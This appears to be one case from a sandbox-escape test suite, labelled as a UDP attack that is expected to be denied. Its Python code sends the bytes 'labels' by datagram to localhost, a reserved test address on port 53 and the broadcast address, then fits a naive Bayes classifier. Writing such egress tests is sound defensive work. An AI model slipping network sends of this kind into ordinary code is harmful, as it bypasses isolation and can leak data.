# attack: udp | expect: denied | class: network | a datagram to the local host, by every way to send one
    import socket
    n = 0
    for a in (('127.0.0.1', 47999), ('192.0.2.1', 53), ('255.255.255.255', 9)):
        try: s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1); s.sendto(b'labels', a); n += 1
        except OSError: pass
    if not n: raise PermissionError('nothing sent')
    from sklearn.naive_bayes import GaussianNB
    model = GaussianNB().fit(x_train, y_train)
